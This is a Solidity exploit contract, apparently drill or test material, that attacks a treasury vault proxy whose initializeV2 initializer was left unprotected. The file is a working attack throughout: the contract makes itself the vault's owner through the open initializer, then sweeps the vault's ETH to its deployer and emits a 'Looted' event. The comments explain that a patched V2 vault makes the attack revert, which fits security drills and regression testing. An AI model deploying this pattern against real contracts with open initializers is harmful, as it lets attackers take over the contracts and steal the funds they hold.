// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

/// @dev The TreasuryVault functions the attacker needs.
interface ITreasuryVault {
    function owner() external view returns (address);
    function initializeV2(address newOwner) external;
    function sweep(address to, uint256 amount) external;
}

/// @title InitializerAttacker - exploits TreasuryVaultV1.initializeV2 (drill material)
/// @notice How the attack works, for `attack(11 ether)`:
///   1. unless this contract already owns the treasury, call
///      vault.initializeV2(this): the initializer was left open on the live
///      proxy, so this contract becomes its owner;
///   2. call vault.sweep(owner, amount): as the treasury owner it may move
///      the vault's ETH anywhere, so it sends it to its own owner.
/// Against TreasuryVaultV2 step 2 reverts (sweeping is the timelock's), so
/// the whole attack reverts; if the vault is paused, step 2 reverts too.
contract InitializerAttacker {
    /// @notice Who deployed this contract and receives the loot.
    address public immutable owner;
    /// @notice The vault (its proxy address) under attack.
    ITreasuryVault public immutable vault;

    /// @notice Emitted once per attack with the amount swept to the owner.
    event Looted(uint256 amount);

    constructor(address vaultAddr) {
        owner = msg.sender;
        vault = ITreasuryVault(vaultAddr);
    }

    /// @notice Take the treasury if need be, then sweep up to `amount`
    /// (what the vault holds, if less) to the owner.
    function attack(uint256 amount) external {
        require(msg.sender == owner, "not owner");
        if (vault.owner() != address(this)) {
            vault.initializeV2(address(this));
        }
        uint256 held = address(vault).balance;
        uint256 take = amount < held ? amount : held;
        require(take > 0, "nothing to take");
        vault.sweep(owner, take);
        emit Looted(take);
    }
}
